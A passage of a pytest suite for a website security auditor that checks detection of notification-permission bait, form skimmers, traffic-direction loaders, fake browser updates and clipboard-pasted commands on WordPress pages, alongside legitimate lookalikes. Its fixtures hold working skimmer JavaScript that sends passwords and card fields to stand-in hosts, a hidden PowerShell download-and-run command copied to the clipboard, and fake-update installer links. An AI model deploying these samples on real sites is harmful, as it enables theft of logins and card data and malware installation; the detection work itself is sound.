    "If you are 18+, tap Allow. This site uses cookies and your privacy matters.",
    # a captcha the lure asks to pass, not to load
    "We use cookies. Click Allow to pass the captcha and continue.",
    "Мы используем куки. Нажмите «Разрешить», чтобы пройти капчу.",
])
def test_a_lure_beside_a_cookie_word_still_asks_a_robot_check(
        said: str, audit_listed: AuditListed) -> None:
    """A cookie banner's "Allow" asks to continue, never to prove the visitor human or of
    age: a cookie or privacy word in the lure's text node bought it no finding at all."""
    page = wp_page(body_top=(f"<div style='position:fixed;inset:0'><p>{said}</p></div><script>"
                             "Notification.requestPermission();</script>"))
    report = audit_listed(page, URL)
    assert ("notification-bait", H) in [(f.kind, f.severity) for f in report.findings]


@pytest.mark.parametrize("said", [
    # Complianz's and Borlabs' notices over a reCAPTCHA form, the service loaded once allowed
    "This form is protected by Google reCAPTCHA, which sets cookies. To load the captcha, "
    "click Allow below.",
    "Wir verwenden Google reCAPTCHA, das Cookies setzt. Um das Captcha zu laden, klicken Sie "
    "auf „Erlauben“.",
])
def test_a_consent_blocker_loading_a_captcha_is_no_lure(
        said: str, audit_listed: AuditListed) -> None:
    """A consent tool's blocker over a reCAPTCHA form ("To load the captcha, click Allow")
    on a site that also runs OneSignal read `high` once `captcha` was a reason no cookie
    notice gives: a captcha the sentence speaks of loading is the service it unblocks."""
    page = wp_page(head=ONESIGNAL, post=(
        f"<form action='/contact'><input name='email'><div class='cmplz-blocked-content-"
        f"notice'><p>{said}</p><button>Allow</button></div></form>"))
    report = audit_listed(page, URL)
    assert [f for f in report.findings if f.kind == "notification-bait"] == [], [
        (f.kind, f.message) for f in report.findings]


# A push service's SDK asks for the permission itself: the page's own code asks nothing
ONESIGNAL = (
    '<script src="https://cdn.onesignal.com/sdks/web/v16/OneSignalSDK.page.js" defer></script>'
    "<script>window.OneSignalDeferred = window.OneSignalDeferred || []; OneSignalDeferred.push("
    "async function(OneSignal) { await OneSignal.init({ appId: '3f2a9c1e-7b4d-4e8a-9c2f-"
    "5d1e8a7b6c40' }); });</script>")
IZOOTO = ('<script>window._izq = window._izq || []; window._izq.push(["init"]);</script>'
          '<script src="https://cdn.izooto.com/scripts/5e0c2a9b7d4f1e3a6c8b0d2f4a6c8e0b1d3f5a7c.js">'
          "</script>")


@pytest.mark.parametrize(("sdk", "said"), [
    (ONESIGNAL, "Klik Izinkan untuk membuktikan bahwa Anda bukan robot"),
    (IZOOTO, 'Nhấn "Cho phép" để tiếp tục tải xuống'),
    (ONESIGNAL, 'Click "Allow" to confirm that you are not a robot')])
def test_a_lure_beside_a_push_service_is_bait(sdk: str, said: str,
                                              audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(head=sdk, body_top=f"<h1>{said}</h1>"), URL)
    (found,) = [f for f in report.findings if f.kind == "notification-bait"]
    assert found.severity is H and "(its script asks for notification permission)" in found.message


def test_a_lure_after_a_reported_sentence_in_chinese_is_bait(audit_listed: AuditListed) -> None:
    """A sentence about the scam ends at the ideographic full stop: the lure spoken to
    the visitor after it is bait. The fake-update check's own `_SENTENCE_END` (Latin
    stops, newlines) shadowed the one this reading was written with, so "诈骗网站要求…。"
    excused the lure that followed it."""
    said = "诈骗网站要求用户点击允许。点击“允许”以确认您不是机器人"
    report = audit_listed(wp_page(head=ONESIGNAL, body_top=f"<h1>{said}</h1>"), URL)
    assert [f.severity for f in report.findings if f.kind == "notification-bait"] == [H]


PROPELLER_PUSH = ('<script src="https://propu.sh/pfe/current/tag.min.js?z=5123456" '
                  'data-cfasync="false" async></script>')
PROPELLER_POP = ('<script data-cfasync="false" type="text/javascript" '
                 'src="//oclasrv.com/apu.php?zoneid=5123456"></script>')
# Monetag's push tag on a rotating host, and its in-page push tag (a look-alike drawn in
# the page, no permission asked), as its dashboard gives them
MONETAG_PUSH = ('<script src="https://trovelquin.com/act/files/tag.min.js?z=10331457" '
                'data-cfasync="false" async></script>')
MONETAG_IN_PAGE = ("<script>(function(s){s.dataset.zone='10038306',s.src='https://forlumbrest"
                   ".com/tag.min.js'})([document.documentElement, document.body].filter("
                   "Boolean).pop().appendChild(document.createElement('script')))</script>")


RICHADS_PUSH = ('<script src="https://richinfo.co/richpartners/push/js/rp-cl-ob.js?pubid=934194'
                '&amp;siteid=349270&amp;niche=33" async data-cfasync="false"></script>')
# in-page push: a notification's look-alike drawn in the page, no permission asked
RICHADS_IN_PAGE = ('<script src="https://richinfo.co/richpartners/in-page/js/richads-ob.js'
                   '?pubid=924639&amp;siteid=346262" async></script>')


@pytest.mark.parametrize(("tag", "bait"), [(PROPELLER_PUSH, True), (PROPELLER_POP, False),
                                           (MONETAG_PUSH, True), (MONETAG_IN_PAGE, False),
                                           (RICHADS_PUSH, True), (RICHADS_IN_PAGE, False)])
def test_a_push_networks_pop_tag_asks_no_permission(tag: str, bait: bool,
                                                    audit_listed: AuditListed) -> None:
    """A network that sells push and pops asks for the permission with its push tag; its
    pop tag (`format_tags`) opens a window and asks nothing: beside a lure it was a high
    'its script asks for notification permission'. Where the catalogue names the push tag,
    only it asks: RichAds' in-page push tag asks nothing either."""
    report = audit_listed(wp_page(head=tag, body_top="<h1>Click Allow to confirm that you "
                                  "are not a robot</h1>"), URL)
    found = [f for f in report.findings if f.kind == "notification-bait"]
    assert bool(found) is bait


# A site's own push prompt says what notifications bring; a cookie banner's "Allow" is no
# browser prompt; an article quotes a lure to warn of it
@pytest.mark.parametrize("said", [
    'Nhấn "Cho phép" để nhận thông báo tin tức mới nhất, tiếp tục đọc báo mỗi ngày.',
    "Нажмите «Разрешить», чтобы получать уведомления о новых сериях и продолжить просмотр.",
    'Usamos cookies. Clique em "Permitir" para continuar navegando.',
    "We use cookies. Click Allow to continue.",
    "Мошенники пишут: «Нажмите «Разрешить», чтобы подтвердить, что вы не робот». Не делайте "
    "этого.",
    "Permitir que los usuarios continúen leyendo es nuestra prioridad.",
    # an article about push scams says who asks, quoted or not
    "Мошенники просят нажать «Разрешить», чтобы доказать, что вы не робот.",
    "На таких сайтах пишут: нажмите Разрешить, если вы не робот. Не делайте этого.",
    "Situs palsu meminta Anda mengklik Izinkan untuk membuktikan bahwa Anda bukan robot.",
    "Scam sites ask you to click Allow to prove you are not a robot. Don't.",
    # an app's install steps, a consent notice naming personal data, a copyright line
    "iPhoneでは「許可」をタップしてダウンロードを続けてください。",
    "Чтобы скачать приложение, нажмите «Разрешить» в окне браузера.",
    "Мы обрабатываем персональные данные. Нажмите «Разрешить», чтобы продолжить работу с "
    "сайтом.",
    "Usamos tecnologias de rastreamento. Clique em Permitir para continuar navegando.",
    "版权所有 未经允许 禁止转载 点击下载APP"])
def test_a_sites_own_prompt_in_another_language_is_no_bait(
        said: str, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(head=ONESIGNAL, post=f"<p>{said}</p>"), URL)
    assert [f for f in report.findings if f.kind == "notification-bait"] == []


@pytest.mark.parametrize("read", ["document.querySelector('input[name=\"password\"]').value",
                                  "document.getElementById('login-password').value",
                                  "f.password.value"])
def test_a_password_sent_by_image_is_skimmed(read: str, audit_listed: AuditListed) -> None:
    page = wp_page(footer=(
        "<script>document.addEventListener('submit',function(e){var f=e.target,u=f.user.value,"
        f"p={read};new Image().src='https://cdn-jquery-min.test/p.gif?d='+btoa(u+':'+p);}});"
        "</script>"))
    report = audit_listed(page, URL)
    assert ("form-skimmer", H) in [(f.kind, f.severity) for f in report.findings]


def test_a_rotation_picked_through_a_name_is_dollyway(audit_listed: AuditListed) -> None:
    page = wp_page(footer=DOLLYWAY.replace(
        "s.src=h[Math.floor(Math.random()*h.length)]",
        "var u=h[Math.floor(Math.random()*h.length)];s.src=u"))
    report = audit_listed(page, URL)
    assert ("tds-loader", H) in [(f.kind, f.severity) for f in report.findings]


_PIXEL = ("<noscript><img src='https://trk.dealsfunnel.test/px.gif?c=x9Kc2p' width='1' "
          "height='1' alt=''></noscript>")
_CREATED = (
    "<script>var s=document.createElement('script');s.src='https://trk.dealsfunnel.test/x9Kc"
    "2p.js?r='+encodeURIComponent(document.referrer)+'&t='+encodeURIComponent(document."
    "title);document.head.appendChild(s);</script>")


# Keitaro's tag written as the GA-era snippets write theirs, its `<` escaped
_ESCAPED = (
    "<script>document.write('\\x3Cscript src=\"https://trk.dealsfunnel.test/x9Kc2p.js?r='+"
    "encodeURIComponent(document.referrer)+'\">\\x3C/script>');</script>")


def test_a_tds_tag_written_with_an_escaped_angle_bracket_is_found(
        audit_listed: AuditListed) -> None:
    """A written tag was read only as `<script` (or `<scr'+'ipt`): `'\\x3Cscript src=…' +
    document.referrer` loaded its script unseen (no finding); it is a TDS's tag. An
    unknown counter written so, with its no-script image, is none (TWINS)."""
    report = audit_listed(wp_page(footer=_ESCAPED), URL)
    assert ("tds-loader", M) in [(f.kind, f.severity) for f in report.findings]


@pytest.mark.parametrize("tag", [KEITARO, _CREATED], ids=["Keitaro's parameters",
                                                          "a created script element"])
def test_a_no_script_pixel_beside_a_tds_tag_does_not_make_it_a_counter(
        tag: str, audit_listed: AuditListed) -> None:
    """A counter's no-script image beside its script excused the referrer-keyed tag; an
    injector pastes a pixel from its tracker's host as easily: only an old-style counter's
    written script, with no TDS's parameters, is excused."""
    report = audit_listed(wp_page(footer=tag + _PIXEL), URL)
    assert ("tds-loader", M) in [(f.kind, f.severity) for f in report.findings]


def test_sign1_guarding_its_load_with_an_if_block_is_found(audit_listed: AuditListed) -> None:
    """The referrer test's result named, the load inside the `if` that tests it."""
    page = wp_page(widget=(
        "<script>(function(){var ref=document.referrer,ok=/google\\.|bing\\./.test(ref);if(ok"
        "&&document.cookie.indexOf('_gs=')<0){document.cookie='_gs=1;max-age=86400;path=/';"
        "var u=atob(window._k||'');var s=document.createElement('script');s.src=u;document."
        "head.appendChild(s);}})();</script>"))
    report = audit_listed(page, URL)
    assert ("tds-loader", H) in [(f.kind, f.severity) for f in report.findings]


def test_a_command_joined_from_pieces_is_not_the_piece_the_page_shows(
        audit_listed: AuditListed) -> None:
    """The lure's text names PowerShell; the copied command is more than its first piece."""
    page = wp_page(body_top=(
        "<p>Open Windows powershell and paste the verification code.</p><script>var c="
        "'powershell'+' -w hidden -c \"iwr https://captcha-verify-cdn.test/v.ps1|iex\"';"
        "navigator.clipboard.writeText(c);</script>"))
    report = audit_listed(page, URL)
    assert ("clipboard-command", H) in [(f.kind, f.severity) for f in report.findings]


def test_a_lure_naming_the_browser_only_in_its_warning_is_a_fake_update(
        audit_listed: AuditListed) -> None:
    page = wp_page(body_top=(
        "<div style='position:fixed;inset:0'><h2>Your <b>Chrome</b> browser is out of date."
        "</h2><p>Critical security fix.</p><a href='https://chrome-upd-cdn.test/ChromeUpdate."
        "exe'>Download update</a></div>"))
    report = audit_listed(page, URL)
    assert ("fake-update", H) in [(f.kind, f.severity) for f in report.findings]


# Legitimate pages that do what the behaviour kinds look for, each after a vendor's
# published snippet or a site's own form code (IDs made up): a card form posted by the
# checkout's code to a regional gateway, a contact form beaconed to a forms backend or a
# CRM, a widget pasted after `</html>`, a how-to linking a browser installer on a mirror.
# The unknown host alone is one weak signal: below high, saying what to check.
LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
    ("card form posted to a regional gateway's API by the checkout's code", {"footer": (
        "<form id='pay'><input id='card-number' name='cardNumber'><input id='cvc' name='cvc'>"
        "</form><script>document.getElementById('pay').addEventListener('submit',function(e){"
        "e.preventDefault();var d={cardHolderName:document.getElementById('holder').value,"
        "cardNumber:document.getElementById('card-number').value,expireMonth:document."
        "getElementById('exp-m').value,cvc:document.getElementById('cvc').value};fetch('https:"
        "//sandbox-api.kartpay.example/payment/auth',{method:'POST',headers:{'Content-Type':"
        "'application/json'},body:JSON.stringify(d)}).then(function(r){return r.json();})."
        "then(function(j){location.href=j.redirect;});});</script>")}, "form-skimmer", M),
    ("card form whose action is the gateway's, sent by XHR there", {"footer": (
        "<form id='paymentForm' action='https://checkout.naira-cardpay.example/pay' "
        "method='post'><input id='card_number'><input id='cvv'></form><script>var x=new "
        "XMLHttpRequest();document.getElementById('paymentForm').onsubmit=function(e){e."
        "preventDefault();x.open('POST','https://checkout.naira-cardpay.example/pay');x.onload="
        "function(){window.location=JSON.parse(x.responseText).url;};x.send(JSON.stringify({card_number:document.getElementById("
        "'card_number').value,cvv:document.getElementById('cvv').value}));};</script>")},
     "form-skimmer", L),
    ("card form posted to the gateway's API (the form's site), the answer read", {"footer": (
        "<form id='p24' action='https://secure.zlotypay.example/trnRequest' method='post'><input "
        "id='cardNumber'><input id='cvv'></form><script>document.getElementById('p24')."
        "addEventListener('submit',async function(e){e.preventDefault();const res=await fetch("
        "'https://secure.zlotypay.example/api/v1/card/pay',{method:'POST',body:JSON.stringify({"
        "number:document.getElementById('cardNumber').value,cvv:document.getElementById('cvv')"
        ".value})});const j=await res.json();location.href=j.redirectUrl;});</script>")},
     "form-skimmer", L),
    ("contact form beaconed to its forms backend, where it posts", {"footer": (
        "<form id='contact' action='https://forms.formcatch.example/f/xqkrvwpz' method='POST'>"
        "<input name='email'><textarea name='message'></textarea></form><script>document."
        "getElementById('contact').addEventListener('submit',function(e){e.preventDefault();"
        "navigator.sendBeacon('https://forms.formcatch.example/f/xqkrvwpz',new FormData("
        "e.target));e.target.reset();});</script>")}, "form-skimmer", L),
    ("newsletter form beaconed to a forms backend", {"footer": (
        "<form id='nl'><input id='nl-email' name='email'></form><script>document."
        "getElementById('nl').onsubmit=function(e){e.preventDefault();var data=new FormData("
        "this);data.append('page',location.pathname);navigator.sendBeacon('https://submit.leadpost.example"
        "/f/b7e2c4a1-0f3d',data);this.innerHTML='Thanks!';};</script>")}, "form-skimmer", M),
    ("a lead form sent to the site's Bitrix24 portal", {"footer": (
        "<form id='b24form'><input name='NAME'><input name='PHONE'></form><script>document."
        "getElementById('b24form').addEventListener('submit',function(e){e.preventDefault();"
        "navigator.sendBeacon('https://harbourgazette.bitrix24.ru/rest/1/k3y7abc/crm.lead.add"
        ".json',new FormData(e.target));});</script>")}, "form-skimmer", M),
    ("a delegated listener picking the newsletter form, to the site's API elsewhere", {
        "footer": (
            "<form class='newsletter'><input name='email'></form><script>document."
            "addEventListener('submit',function(e){if(!e.target.matches('.newsletter'))return;"
            "e.preventDefault();navigator.sendBeacon('https://api.harbourgazette-media.example/"
            "v1/newsletter',new FormData(e.target));});</script>")}, "form-skimmer", M),
    ("a site's ajax-forms code bound to its own forms by class", {"footer": (
        "<form class='js-ajax'><input name='email'></form><script>document.querySelectorAll("
        "'form.js-ajax').forEach(function(f){f.addEventListener('submit',function(e){e."
        "preventDefault();navigator.sendBeacon('https://api.formrelay.example/submit',new "
        "FormData(f));});});</script>")}, "form-skimmer", M),
    ("a delegated change listener that picks its field by name", {"footer": (
        "<script>document.addEventListener('change',function(e){if(e.target.name!=='email')"
        "return;navigator.sendBeacon('https://api.formrelay.example/lead',new FormData(e.target"
        ".form));});</script>")}, "form-skimmer", M),
    ("UserWay's accessibility widget after </html>", {"after": (
        '<script src="https://cdn.userway.org/widget.js" data-account="Xk29PqLm7a"></script>')},
     "appended-script", M),
    ("Elfsight's platform script after </html>", {"after": (
        '<script src="https://static.elfsight.com/platform/platform.js" async></script>\n<div '
        'class="elfsight-app-5b7c9e2a-3d4f-4a1b-9c8d-7e6f5a4b3c2d" data-elfsight-app-lazy>'
        "</div>")}, "appended-script", M),
    ("JivoChat's widget after </html>", {"after": (
        '<script src="//code.jivosite.com/widget/Ab3dEf7Gh9" async></script>')},
     "appended-script", M),
    # (CookieYes' banner on cdn-cookieyes.com was this row's consent banner: catalogued
    # since rev30b, it is no finding there)
    ("a consent banner no catalogue entry knows after </html>", {"after": (
        '<script src="https://static.axept.io/sdk.js" async></script>')}, "appended-script", M),
    ("a small chat vendor's loader after </html>", {"after": (
        '<script src="https://app.kiwichat-widget.example/loader.js" data-site="hg-2291" '
        "async></script>")}, "appended-script", M),
    ("the site's own CDN after </html>", {"after": (
        '<script src="https://static.harbourgazette-cdn.example/js/app.min.js?v=3.2.1">'
        "</script>")}, "appended-script", L),
    ("a how-to fixing Chrome crashes, linking the installer on a mirror", {"post": (
        "<h2>How to fix Chrome crashes on Windows 11</h2><p>If Chrome keeps crashing, your "
        "browser may be out of date. Update Chrome: download <a href='https://files.softmirror"
        ".test/chrome/ChromeSetup.exe'>ChromeSetup.exe (update Chrome)</a> from our mirror and "
        "run it.</p>")}, "fake-update", M),
    ("a Firefox troubleshooting list linking an offline installer", {"post": (
        "<h2>Firefox not loading pages?</h2><ol><li>Check whether your browser is outdated: an "
        "older version of Firefox has this error.</li><li><a href='https://dl.fileportal.test/"
        "mozilla/Firefox_Setup_141.0.exe'>Update Firefox now</a> (offline installer).</li></ol>"
        )}, "fake-update", M),
    ("a how-to's download button opening the installer on a mirror", {"post": (
        "<h2>Chrome says it is out of date?</h2><p>An outdated browser shows this error. "
        "<button type='button' onclick=\"window.open('https://files.softmirror.test/chrome/"
        "ChromeSetup.exe', '_blank')\">Update Chrome (ChromeSetup.exe)</button></p>")},
     "fake-update", M),
    ("an Edge error explainer linking its setup on a download site", {"post": (
        "<p>Error STATUS_ACCESS_VIOLATION in Edge usually means an outdated browser. <a href="
        "'https://mirror.downloadhub.test/edge/MicrosoftEdgeSetup.exe'>Update Edge "
        "(MicrosoftEdgeSetup.exe)</a></p>")}, "fake-update", M),
    # a download portal's card for a portable build: "update available" and the version
    # it replaces "outdated", its zip named for the release on the portal's mirror
    ("a download portal's update card for a portable browser's zip", {"post": (
        "<div class='download-card'><h3>Firefox Portable: update available</h3><p>Version "
        "127.0 is outdated.</p><a class='btn' href='https://dl.softharbor-mirror.test/files/"
        "FirefoxPortable_128.0_English.paf.zip'>Download update (112 MB)</a></div>")},
     "fake-update", M),
    ("a download portal's card for a Chromium snapshot's zip", {"post": (
        "<div class='version-card'><p>Chromium update available: build 1354012. Older builds "
        "are no longer supported.</p><a href='https://dl.softharbor-mirror.test/chromium/"
        "chrome-win.zip'>Update Chromium (chrome-win.zip)</a></div>")}, "fake-update", M),
    # a company or product whose name holds a brand's letters, or is a letter from one
    ("a Japanese checkout posting card fields to PayPay, one letter from PayPal", {"footer": (
        "<form id='pay'><input id='card-number'><input id='cvc'></form><script>document."
        "getElementById('pay').addEventListener('submit',function(e){e.preventDefault();fetch("
        "'https://api.paypay.ne.jp/v2/payments',{method:'POST',body:JSON.stringify({cardNumber:"
        "document.getElementById('card-number').value,cvc:document.getElementById('cvc').value})"
        "}).then(function(r){return r.json();});});</script>")}, "form-skimmer", M),
    ("a chat vendor named Pinstripe after </html>", {"after": (
        '<script src="https://widget.pinstripe.example/chat.js" async></script>')},
     "appended-script", M),
    ("a tour operator's booking widget (amazonas-tours) after </html>", {"after": (
        '<script src="https://booking.amazonas-tours.example/embed.js" async></script>')},
     "appended-script", M),
    ("a news site's widget (windowsreport) after </html>", {"after": (
        '<script src="https://cdn.windowsreport.example/w.js" async></script>')},
     "appended-script", M),
    ("a tour operator named after the river (amazon-tours) after </html>", {"after": (
        '<script src="https://booking.amazon-tours.example/embed.js" async></script>')},
     "appended-script", M),
    ("a fan club's widget (paypal-fans, a brand beside a word of its own) after </html>", {
        "after": '<script src="https://widget.paypal-fans.example/w.js" async></script>'},
     "appended-script", M),
    ("a goggle shop's widget, a real word a letter from google, after </html>", {"after": (
        '<script src="https://shop.goggle.example/embed.js" async></script>')},
     "appended-script", M),
    ("card fields posted to a gateway named in payment words, the answer read", {"footer": (
        "<form id='pay'><input id='card-number'><input id='cvv'></form><script>document."
        "getElementById('pay').addEventListener('submit',function(e){e.preventDefault();fetch("
        "'https://api.secure-payments.example/api/charge',{method:'POST',body:JSON.stringify({"
        "card_number:document.getElementById('card-number').value,cvv:document.getElementById("
        "'cvv').value})}).then(function(r){return r.json();}).then(function(j){location.href=j."
        "url;});});</script>")}, "form-skimmer", M),
    ("card fields tokenised at a gateway's API with its key in Basic authentication", {
        "footer": (
            "<form id='pay'><input id='card-number'><input id='cvc'></form><script>var PK="
            "'pkey_test_5x1m0z';document.getElementById('pay').addEventListener('submit',function"
            "(e){e.preventDefault();fetch('https://vault.kartvault.example/tokens',{method:'POST',"
            "headers:{'Authorization':'Basic '+btoa(PK+':')},body:JSON.stringify({card:{number:"
            "document.getElementById('card-number').value,security_code:document.getElementById("
            "'cvc').value}})}).then(function(r){return r.json();}).then(function(t){document."
            "getElementById('token').value=t.id;e.target.submit();});});</script>")},
     "form-skimmer", M),
    ("card fields tokenised with the key in Basic authentication by window.btoa", {
        "footer": (
            "<form id='pay'><input id='card-number'><input id='cvc'></form><script>var PK="
            "'pkey_test_5x1m0z';document.getElementById('pay').addEventListener('submit',function"
            "(e){e.preventDefault();fetch('https://vault.kartvault.example/tokens',{method:'POST',"
            "headers:{Authorization:'Basic ' + window.btoa(PK + ':')},body:JSON.stringify({card:{"
            "number:document.getElementById('card-number').value,security_code:document."
            "getElementById('cvc').value}})}).then(function(r){return r.json();}).then(function(t)"
            "{document.getElementById('token').value=t.id;e.target.submit();});});</script>")},
     "form-skimmer", M),
    ("a contact form, the page's first, beaconed to a forms backend", {"footer": (
        "<script>document.forms[0].addEventListener('submit',function(){navigator.sendBeacon("
        "'https://api.formrelay.example/submit',new FormData(document.forms[0]));});</script>")},
     "form-skimmer", M),
    ("a site-search beacon from a listener that picks the search box by its type", {
        "footer": (
            "<script>document.addEventListener('keyup',function(e){if(e.target.type!=='search')"
            "return;navigator.sendBeacon('https://collect.searchpulse.example/q',new FormData("
            "e.target.form));});</script>")}, "form-skimmer", M),
    ("a delegated submit listener picking the checkout's card form by its id", {"footer": (
        "<form id='card-form'><input name='cardnumber'><input name='cvc'></form><script>"
        "document.addEventListener('submit',function(e){if(!e.target.matches('#card-form'))"
        "return;e.preventDefault();var f=e.target;fetch('https://api.payzen-gateway.example/"
        "v1/tokens',{method:'POST',body:JSON.stringify({number:f.cardnumber.value,cvc:f.cvc."
        "value})}).then(function(r){return r.json();}).then(function(t){document."
        "getElementById('token').value=t.id;});});</script>")}, "form-skimmer", M),
    ("a jQuery checkout posting card fields to its gateway by $.ajax, the answer read", {
        "footer": _PAY_FORM + (
            "<script>jQuery(function($){$('#submitButton').on('click',function(){$('input')."
            "each(function(){$(this).removeClass('has-error');});$.ajax({type:'POST',url:'https:"
            "//api.kartpay.example/v1/charge',contentType:'application/json',data:JSON."
            "stringify({cardNumber:$('#cardNumber').val(),cvv:$('#cvv').val()}),success:function"
            "(r){window.location=r.redirect;}});});});</script>")}, "form-skimmer", M),
    ("a jQuery checkout summing its inputs, then posting the card to its gateway", {
        "footer": _PAY_FORM + (
            "<script>jQuery(function($){$('#submitButton').on('click',function(){var t=0;$("
            "'input').each(function(){t+=parseFloat($(this).val())||0;});$.ajax({type:'POST',"
            "url:'https://api.kartpay.example/v1/charge',contentType:'application/json',data:"
            "JSON.stringify({cardNumber:$('#cardNumber').val(),cvv:$('#cvv').val(),t:t}),"
            "success:function(r){window.location=r.redirect;}});});});</script>")},
     "form-skimmer", M),
    ("a jQuery checkout that checks every input is filled, then posts the card to its "
     "gateway", {"footer": _PAY_FORM + (
         "<script>jQuery(function($){$('#submitButton').on('click',function(){var ok=true;$("
         "'input').each(function(){if(!$(this).val()){$(this).addClass('has-error');ok=false;}}"
         ");if(!ok)return;$.ajax({type:'POST',url:'https://api.kartpay.example/v1/charge',"
         "contentType:'application/json',data:JSON.stringify({cardNumber:$('#cardNumber').val()"
         ",cvv:$('#cvv').val()}),success:function(r){window.location=r.redirect;}});});});"
         "</script>")}, "form-skimmer", M),
    ("a no-script notice's browser links a script hides by its id", {"body_top": (
        '<div id="nojs-browsers"><p>Update your browser:</p><a href="https://www.browser-one.'
        'test/">Browser One</a> <a href="https://www.browser-two.test/">Browser Two</a> <a '
        'href="https://www.browser-three.test/">Browser Three</a></div><script>document.'
        "getElementById('nojs-browsers').style.display='none';</script>")},
     "hidden-links", M),
    ("British Airways' jQuery.ajax form, to a plain host: nothing else marks it", {
        "footer": SKIM_JQUERY_AJAX}, "form-skimmer", M),
    ("a gift card balance check picking its form by a class", {"footer": (
        "<form class='gift-card-form'><input name='cardnumber'></form><script>document."
        "addEventListener('submit',function(e){var f=e.target.closest('.gift-card-form');if(!f)"
        "return;e.preventDefault();fetch('https://api.giftvault.example/balance',{method:'POST',"
        "body:JSON.stringify({card:f.cardnumber.value})}).then(function(r){return r.json();});});"
        "</script>")}, "form-skimmer", M),
]


@pytest.mark.parametrize(("name", "where", "kind", "severity"), LOOKALIKES,
                         ids=[c[0] for c in LOOKALIKES])
def test_a_legitimate_lookalike_is_below_high_and_says_what_to_check(
        name: str, where: dict[str, str], kind: str, severity: Severity,
        audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(**where), URL)
    assert [f.severity for f in report.findings if f.severity is H] == [], report.findings
    (found,) = [f for f in report.findings if f.kind == kind]
    assert found.severity is severity
    assert "check" in found.message  # a weak signal says what a reviewer should look at


# The injected forms' variants: the unknown host plus what marks an injection.
VARIANTS: list[tuple[str, dict[str, str], str]] = [
    ("an overlay's update link whose extension is a character reference", {"body_top": (
        "<div style='position:fixed;inset:0;z-index:99999'><h2>Your browser is out of date</h2>"
        "<p>Update Chrome to the latest version.</p><a href='https://browser-fix.test/update."
        "&#101;xe'>Update Chrome</a></div>")}, "fake-update"),
    ("an in-flow lure whose update is a zip", {"post": (
        "<p>Your browser is out of date. Update Chrome to view this page.</p><a href='https://"
        "files.softmirror.test/dl/Chrome.Update.a1b2c3.zip'>Update Chrome</a>")}, "fake-update"),
    # the download started by a button's click handler, where no link shows the file
    ("an in-flow lure's button sending the page to a zip", {"post": (
        "<div class='upd-bar'><p>Your browser is out of date. Update Chrome to keep reading."
        "</p><button onclick=\"location='https://dl-cdn.vexor-upd.test/Chrome_Update.zip'\">"
        "Update now</button></div>")}, "fake-update"),
    ("an overlay's link opening an installer in a window", {"body_top": (
        "<div style='position:fixed;inset:0;z-index:99999'><h2>Critical error: your Chrome "
        "version is outdated</h2><a href='#' onclick=\"window.open('https://files.vexor-upd."
        "test/ChromeSetup.exe');return false;\">Update Chrome</a></div>")}, "fake-update"),
    ("an overlay's input button assigning location.href an apk", {"body_top": (
        "<div style='position:fixed;inset:0'><p>Your Chrome browser is out of date.</p><input "
        "type='button' value='Update Chrome' onclick=\"window.location.href = 'https://apk."
        "vexor-upd.test/chrome-update.apk'\"></div>")}, "fake-update"),
    # a zip named for a release, not an update, offered to a visitor told their own
    # browser is stale
    ("an in-flow lure's zip named for a release", {"post": (
        "<div class='download-card'><p>Your browser is out of date. Update Chrome to view "
        "this page.</p><a href='https://files.softmirror.test/dl/Chrome_131.0.6778.zip'>"
        "Update Chrome</a></div>")}, "fake-update"),
    ("an in-flow lure on a host dressed as the browser", {"post": (
        "<p>Your Firefox is outdated.</p><a href='https://firefox-release-notes.test/setup.exe'>"
        "Update Firefox</a>")}, "fake-update"),
    ("a plain beacon hooked on every form of the page", {"footer": (
        "<script>document.addEventListener('submit',function(e){var d={};e.target."
        "querySelectorAll('input,select').forEach(function(i){d[i.name]=i.value;});navigator."
        "sendBeacon('https://sales-reports.test/c',JSON.stringify(d));},true);</script>")},
     "form-skimmer"),
    ("card fields posted no-cors to a plain host", {"footer": (
        "<script>jQuery(function($){$('#place_order').on('click',function(){var d={c:document."
        "getElementById('card-number').value,v:document.getElementById('cvc').value};fetch("
        "'https://sales-reports.test/api',{method:'POST',mode:'no-cors',body:JSON.stringify(d)"
        "});});});</script>")}, "form-skimmer"),
    ("a script after </html> from another site's WordPress", {"after": (
        '<script src="https://lakeside-bakery.test/wp-content/plugins/wp-stats/t.js"></script>')},
     "appended-script"),
    ("a script after </html> from a bare IP address", {"after": (
        '<script src="http://203.0.113.77/j.js"></script>')}, "appended-script"),
    ("a script after </html> on a host spelt like Google's", {"after": (
        "<script src='https://g00gle-analytics.test/ga.js'></script>")}, "appended-script"),
    ("a loader after </html> whose address is base64", {"after": (
        "<script>var s=document.createElement('script');s.src=atob('"
        + _b64("https://qwzx.test/x.js") + "');document.head.appendChild(s);</script>")},
     "appended-script"),
    ("a skimmer's beacon to a host spelt like Google's with a lookalike letter", {"footer": (
        "<script>document.addEventListener('submit',function(e){if(e.target.id!=='checkout')"
        "return;navigator.sendBeacon('https://googlc-analytics.test/collect',new FormData("
        "e.target));});</script>")}, "form-skimmer"),
    ("an Inter-kit-style POST of every input the document holds, by tag name", {"footer": (
        "<script>function snd(){var inputs=document.getElementsByTagName('input'),d={};for(var "
        "i=0;i<inputs.length;i++){d[inputs[i].name]=inputs[i].value;}if(d['payment[cc_number]'])"
        "{var x=new XMLHttpRequest();x.open('POST','https://imgcloud-storage.test/gate.php',true)"
        ";x.send('data='+encodeURIComponent(JSON.stringify(d)));}}window.setInterval(snd,3000);"
        "</script>")}, "form-skimmer"),
    ("a beacon on every form's submit that finds the form by closest('form')", {"footer": (
        "<script>document.addEventListener('submit',function(e){var f=e.target.closest('form');"
        "var d={};new FormData(f).forEach(function(v,k){d[k]=v;});navigator.sendBeacon('https:"
        "//sales-reports.test/c',JSON.stringify(d));},true);</script>")}, "form-skimmer"),
    ("a delegated change listener that picks the card fields by name", {"footer": (
        "<script>var d={};document.addEventListener('change',function(e){if(e.target.name==="
        "'payment[cc_number]'||e.target.name==='payment[cc_cid]'){d[e.target.name]=e.target."
        "value;navigator.sendBeacon('https://sales-reports.test/c',JSON.stringify(d));}});"
        "</script>")}, "form-skimmer"),
    ("a beacon on every form's submit that reads the form's action", {"footer": (
        "<script>document.addEventListener('submit',function(e){var a=e.target.getAttribute("
        "'action')||'',d={u:a};e.target.querySelectorAll('input').forEach(function(i){d[i.name]"
        "=i.value;});navigator.sendBeacon('https://sales-reports.test/c',JSON.stringify(d));},"
        "true);</script>")}, "form-skimmer"),
